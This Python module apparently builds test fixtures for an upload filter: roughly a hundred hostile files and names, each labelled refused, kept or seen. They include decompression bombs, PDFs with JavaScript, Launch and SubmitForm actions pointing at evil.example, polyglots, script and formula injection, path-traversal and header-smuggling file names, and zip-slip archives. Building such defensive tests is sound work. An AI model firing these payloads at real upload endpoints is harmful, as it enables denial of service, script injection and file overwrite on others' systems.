"""A hundred uploads that mean no good: (what it is, the name, the bytes, what becomes of it).

"refused" must be refused. "kept" is taken as it is, since it is evidence, and must not be able to
do anything: it is only ever handed out as an attachment. "seen" is kept and must be remarked on.
"""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Iterator
from functools import lru_cache
from typing import NamedTuple

import pikepdf
from PIL import Image


class Upload(NamedTuple):
    """One hostile upload."""

    what: str
    name: str
    content: bytes
    becomes: str = "refused"


def uploads() -> list[Upload]:
    """All of them."""
    return [
        *_bombs(),
        *_pdfs(),
        *_pictures(),
        *_polyglots(),
        *_wrong(),
        *_documents(),
        *_mails(),
        *_names(),
    ]


def png(size: tuple[int, int] = (8, 8)) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", size, (200, 30, 30)).save(out, "PNG")
    return out.getvalue()


def jpeg(size: tuple[int, int] = (8, 8), **extra: object) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", size, (30, 200, 30)).save(out, "JPEG", **extra)
    return out.getvalue()


def chunk(kind: bytes, data: bytes) -> bytes:
    checked = kind + data
    return struct.pack(">I", len(data)) + checked + struct.pack(">I", zlib.crc32(checked))


def png_of(width: int, height: int, data: bytes = b"", more: bytes = b"") -> bytes:
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header)
        + more
        + chunk(b"IDAT", data or zlib.compress(b"\0" * 1000))
        + chunk(b"IEND", b"")
    )


def pdf(pages: int = 1, **root: object) -> bytes:
    document = pikepdf.new()
    for _ in range(pages):
        document.add_blank_page()
    for key, value in root.items():
        document.Root[f"/{key}"] = value
    return _saved(document)


def _saved(document: pikepdf.Pdf) -> bytes:
    out = io.BytesIO()
    document.save(out, compress_streams=False, stream_decode_level=pikepdf.StreamDecodeLevel.none)
    return out.getvalue()


def pdf_stream(data: bytes, **about: object) -> bytes:
    document = pikepdf.new()
    document.add_blank_page()
    stream = pikepdf.Stream(document, data)
    for key, value in about.items():
        stream.stream_dict[f"/{key}"] = value
    document.Root["/Kept"] = document.make_indirect(stream)
    return _saved(document)


@lru_cache
def squeezed(size: int, times: int) -> bytes:
    """So many zero bytes, deflated so many times over."""
    if times > 1:
        return zlib.compress(squeezed(size, times - 1), 9)
    packer = zlib.compressobj(9)
    block = b"\0" * 1_000_000
    return b"".join(packer.compress(block) for _ in range(size // len(block))) + packer.flush()


def zipped(members: dict[str, bytes], compress: int = zipfile.ZIP_DEFLATED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", compress) as packed:
        for name, content in members.items():
            packed.writestr(name, content)
    return out.getvalue()


WORD = {"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<w:document/>"}
FLATE = pikepdf.Name.FlateDecode
FROM_TO = b"From: a@example.org\r\nTo: b@example.org\r\n"


def _bombs() -> Iterator[Upload]:
    yield Upload(
        "PDF, 160 MB deflated three times",
        "a.pdf",
        pdf_stream(squeezed(160_000_000, 3), Filter=pikepdf.Array([FLATE] * 3)),
    )
    yield Upload(
        "PDF, 160 MB deflated twice",
        "a.pdf",
        pdf_stream(squeezed(160_000_000, 2), Filter=pikepdf.Array([FLATE] * 2)),
    )
    yield Upload(
        "PDF, 160 MB deflated once", "a.pdf", pdf_stream(squeezed(160_000_000, 1), Filter=FLATE)
    )
    yield Upload("PDF, ten filters", "a.pdf", pdf_stream(b"x", Filter=pikepdf.Array([FLATE] * 10)))
    yield Upload(
        "PDF with a picture of 100,000 a side",
        "a.pdf",
        pdf_stream(
            b"x",
            Type=pikepdf.Name.XObject,
            Subtype=pikepdf.Name.Image,
            Width=100_000,
            Height=100_000,
        ),
    )
    many = pikepdf.new()
    many.add_blank_page()
    block = squeezed(100_000_000, 1)
    for number in range(7):
        stream = pikepdf.Stream(many, block)
        stream.stream_dict.Filter = FLATE
        many.Root[f"/K{number}"] = many.make_indirect(stream)
    yield Upload("PDF, seven streams of 100 MB", "a.pdf", _saved(many))
    yield Upload("PNG of 12,000 a side", "a.png", png_of(12_000, 12_000, squeezed(1_000_000, 1)))
    yield Upload("PNG that says 60,000 a side", "a.png", png_of(60_000, 60_000))
    yield Upload("PNG that says 2 billion wide", "a.png", png_of(2_147_483_647, 1))
    yield Upload("PNG of no width", "a.png", png_of(0, 100))
    yield Upload(
        "PNG with 100 MB in a text",
        "a.png",
        png_of(8, 8, more=chunk(b"zTXt", b"c\0\0" + squeezed(100_000_000, 1))),
    )
    yield Upload(
        "PNG with 100 MB in a colour profile",
        "a.png",
        png_of(8, 8, more=chunk(b"iCCP", b"c\0\0" + squeezed(100_000_000, 1))),
    )
    yield Upload(
        "JPEG that says 65,000 a side",
        "a.jpg",
        jpeg().replace(b"\x00\x08\x00\x08", b"\xfd\xe8\xfd\xe8"),
    )
    yield Upload(
        "Word document of 210 MB of zeros",
        "a.docx",
        zipped({**WORD, "word/media/a.png": b"\0" * 210_000_000}),
    )
    yield Upload(
        "Word document of 2,500 parts",
        "a.docx",
        zipped({**WORD, **{f"word/{n}.xml": b"x" for n in range(2_500)}}),
    )
    yield Upload(
        "Word document in a Word document", "a.docx", zipped({**WORD, "word/in.zip": zipped(WORD)})
    )
    yield Upload("Mail of 5,000 parts", "a.eml", _parts(5_000))
    yield Upload("Mail nested 2,000 deep", "a.eml", _nested(2_000))
    yield Upload("empty PDF", "a.pdf", b"")
    yield Upload("26 MB of text", "a.txt", b"a" * (26 * 1024 * 1024))


def _pdfs() -> Iterator[Upload]:
    action = pikepdf.Dictionary
    yield Upload(
        "PDF that runs a script when opened",
        "a.pdf",
        pdf(OpenAction=action(S=pikepdf.Name.JavaScript, JS="app.alert(1)")),
        "seen",
    )
    yield Upload(
        "PDF with scripts by name",
        "a.pdf",
        pdf(
            Names=action(
                JavaScript=action(
                    Names=pikepdf.Array(
                        [pikepdf.String("a"), action(S=pikepdf.Name.JavaScript, JS="x")]
                    )
                )
            )
        ),
        "seen",
    )
    yield Upload(
        "PDF that starts a program",
        "a.pdf",
        pdf(OpenAction=action(S=pikepdf.Name.Launch, F="calc.exe")),
        "seen",
    )
    yield Upload(
        "PDF with a file inside",
        "a.pdf",
        pdf(Names=action(EmbeddedFiles=action(Names=pikepdf.Array([])))),
        "seen",
    )
    yield Upload(
        "PDF with an XFA form", "a.pdf", pdf(AcroForm=action(XFA=pikepdf.String("<x/>"))), "seen"
    )
    yield Upload(
        "PDF with more actions",
        "a.pdf",
        pdf(AA=action(WC=action(S=pikepdf.Name.JavaScript, JS="x"))),
        "seen",
    )
    yield Upload(
        "PDF that sends a form",
        "a.pdf",
        pdf(OpenAction=action(S=pikepdf.Name.SubmitForm, F="https://evil.example")),
        "seen",
    )
    yield Upload(
        "PDF that opens an address",
        "a.pdf",
        pdf(OpenAction=action(S=pikepdf.Name.URI, URI="https://evil.example")),
        "seen",
    )
    yield Upload("PDF with a film", "a.pdf", pdf(Names=action(RichMedia=action())), "seen")
    yield Upload("PDF of 301 pages", "a.pdf", pdf(301))
    yield Upload("PDF of no page", "a.pdf", _saved(pikepdf.new()))
    yield Upload("PDF cut in half", "a.pdf", pdf()[:200])
    yield Upload("PDF of a heading only", "a.pdf", b"%PDF-1.7\n")
    yield Upload("PDF of nonsense", "a.pdf", b"%PDF-1.7\n" + bytes(range(256)) * 100)
    locked = pikepdf.new()
    locked.add_blank_page()
    out = io.BytesIO()
    locked.save(out, encryption=pikepdf.Encryption(user="secret", owner="secret"))
    yield Upload("PDF with a password", "a.pdf", out.getvalue(), "seen")
    deep: pikepdf.Object = pikepdf.Array([])
    for _ in range(60):
        deep = pikepdf.Array([deep])
    yield Upload("PDF nested 60 deep", "a.pdf", pdf(Deep=deep))
    circle = pikepdf.new()
    circle.add_blank_page()
    first = circle.make_indirect(action())
    second = circle.make_indirect(action(Back=first))
    first["/On"] = second
    circle.Root["/Circle"] = first
    yield Upload("PDF that points at itself", "a.pdf", _saved(circle), "kept")
    loop = pdf().replace(b"/Count 1", b"/Count 9999999")
    yield Upload("PDF that says 10 million pages", "a.pdf", loop, "kept")


def _pictures() -> Iterator[Upload]:
    yield Upload("PNG cut in half", "a.png", png((400, 400))[:300])
    yield Upload("JPEG cut in half", "a.jpg", jpeg((400, 400))[:400])
    yield Upload(
        "PNG with a wrong checksum", "a.png", png()[:40] + b"\xff\xff\xff\xff" + png()[44:]
    )
    yield Upload("PNG of its heading only", "a.png", b"\x89PNG\r\n\x1a\n")
    yield Upload("JPEG of its heading only", "a.jpg", b"\xff\xd8\xff\xe0")
    yield Upload("JPEG of nonsense", "a.jpg", b"\xff\xd8\xff\xe0" + bytes(range(256)) * 50)
    exif = Image.Exif()
    exif[0x010F], exif[0x8825] = (
        "Camera of Amara",
        {1: "N", 2: (51.0, 30.0, 0.0), 3: "E", 4: (0.0, 7.0, 0.0)},
    )
    yield Upload("JPEG that tells where it was taken", "a.jpg", jpeg(exif=exif), "seen")
    yield Upload(
        "JPEG with a script in a comment",
        "a.jpg",
        jpeg(comment=b"<script>alert(1)</script>"),
        "seen",
    )
    yield Upload(
        "PNG with a page in a text",
        "a.png",
        png_of(8, 8, zlib.compress(b"\0" * 200), chunk(b"tEXt", b"c\0<script>alert(1)</script>")),
        "seen",
    )
    yield Upload("GIF called PNG", "a.png", b"GIF89a" + b"\0" * 100)
    yield Upload("GIF", "a.gif", b"GIF89a" + b"\0" * 100)
    yield Upload(
        "SVG with a script",
        "a.svg",
        b"<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>",
    )
    yield Upload("SVG called PNG", "a.png", b"<svg xmlns='http://www.w3.org/2000/svg'/>")
    yield Upload("WebP called JPEG", "a.jpg", b"RIFF\0\0\0\0WEBPVP8 ")
    yield Upload("HEIC", "a.heic", b"\0\0\0\x18ftypheic" + b"\0" * 100)
    yield Upload("TIFF called PNG", "a.png", b"II*\0" + b"\0" * 100)
    yield Upload("BMP called PNG", "a.png", b"BM" + b"\0" * 100)
    yield Upload("icon called PNG", "a.png", b"\0\0\1\0" + b"\0" * 100)
    yield Upload("PostScript called PNG", "a.png", b"%!PS-Adobe-3.0\n%%EOF")


def _polyglots() -> Iterator[Upload]:
    archive = zipped({"evil.js": b"alert(1)"})
    page = b"<html><script>alert(1)</script></html>"
    yield Upload("PNG and ZIP in one", "a.png", png() + archive, "kept")
    yield Upload("JPEG and ZIP in one", "a.jpg", jpeg() + archive, "kept")
    yield Upload("PDF and ZIP in one", "a.pdf", pdf() + archive, "kept")
    yield Upload("PDF and page in one", "a.pdf", pdf() + page, "kept")
    yield Upload("PNG and page in one", "a.png", png() + page, "kept")
    yield Upload("page before a PDF", "a.pdf", page + pdf())
    yield Upload("picture before a PDF", "a.pdf", jpeg() + pdf())
    yield Upload("PDF called JPEG", "a.jpg", pdf())
    yield Upload("JPEG called PDF", "a.pdf", jpeg())
    yield Upload("PNG called JPEG", "a.jpg", png())
    yield Upload("ZIP called Word document", "a.docx", archive)
    yield Upload("program before a ZIP", "a.docx", b"MZ" + zipped(WORD))


def _wrong() -> Iterator[Upload]:
    for ending in (
        "exe",
        "html",
        "js",
        "php",
        "sh",
        "bat",
        "jar",
        "lnk",
        "scr",
        "zip",
        "7z",
        "rar",
        "iso",
        "svgz",
        "xml",
        "doc",
        "docm",
        "xlsm",
        "pdf.exe",
    ):
        yield Upload(f"a .{ending}", f"a.{ending}", b"MZ\x90\0 anything at all")
    yield Upload("program called PDF", "a.pdf", b"MZ\x90\0" + b"\0" * 200)
    yield Upload("program called text", "a.txt", b"\x7fELF\x02\x01\x01\0" + b"\0" * 100)
    yield Upload("page called text", "a.txt", b"<html><script>alert(1)</script></html>", "kept")
    yield Upload("formula called text", "a.txt", b"=cmd|'/c calc'!A1", "kept")
    yield Upload("text with escape sequences", "a.txt", b"\x1b]0;title\x07\x1b[31mred")
    yield Upload("text with NUL", "a.txt", b"a\0b")
    yield Upload("half of UTF-16", "a.txt", b"\xff\xfea")


def _documents() -> Iterator[Upload]:
    yield Upload(
        "Word document with a macro", "a.docx", zipped({**WORD, "word/vbaProject.bin": b"x"})
    )
    yield Upload(
        "Word document with a path upwards", "a.docx", zipped({**WORD, "../../evil": b"x"})
    )
    yield Upload(
        "Word document with a path from the root", "a.docx", zipped({**WORD, "/etc/passwd": b"x"})
    )
    yield Upload("Word document cut in half", "a.docx", zipped(WORD)[:60])
    yield Upload(
        "Word document with a bomb in XML",
        "a.docx",
        zipped({**WORD, "word/document.xml": b'<!DOCTYPE x [<!ENTITY a "aaaa">]><x>&a;</x>'}),
        "kept",
    )


def _mails() -> Iterator[Upload]:
    yield Upload("no mail at all", "a.eml", b"hello")
    yield Upload(
        "mail with a hidden header",
        "a.eml",
        FROM_TO + b"Subject: =?utf-8?q?x=0D=0ABcc:_c@evil?=\r\n\r\nhi",
        "kept",
    )
    yield Upload(
        "mail in an encoding that is none",
        "a.eml",
        FROM_TO + b"Content-Type: text/plain; charset=zlib\r\n\r\nhi",
        "kept",
    )


def _names() -> Iterator[Upload]:
    yield Upload("name that reads backwards", "photo\u202egpj.exe", b"MZ")
    yield Upload("name with a path", "../../../../etc/cron.d/a.txt", b"hello", "kept")
    yield Upload("name with a Windows path", "C:\\Windows\\System32\\a.txt", b"hello", "kept")
    yield Upload("name with NUL", "a.exe\0.txt", b"hello", "kept")
    yield Upload("name with a line break", "a\r\nSet-Cookie: x=1\r\n.txt", b"hello", "kept")
    yield Upload("name of 5,000 letters", "a" * 5_000 + ".txt", b"hello", "kept")
    yield Upload("name with markup", "<img src=x onerror=alert(1)>.txt", b"hello", "kept")
    yield Upload("name with quotes", 'a"; filename="evil.exe.txt', b"hello", "kept")
    yield Upload("no name before the ending", ".txt", b"hello")
    yield Upload("no name", "", b"hello")


def _parts(count: int) -> bytes:
    head = FROM_TO + b"Content-Type: multipart/mixed; boundary=B\r\n\r\n"
    return head + b"--B\r\n\r\nx\r\n" * count + b"--B--\r\n"


def _nested(depth: int) -> bytes:
    lines = [b"From: a@example.org", b"To: b@example.org"]
    for level in range(depth):
        lines += [
            f"Content-Type: multipart/mixed; boundary=B{level}".encode(),
            b"",
            f"--B{level}".encode(),
        ]
    return b"\r\n".join(lines) + b"\r\n\r\nx"
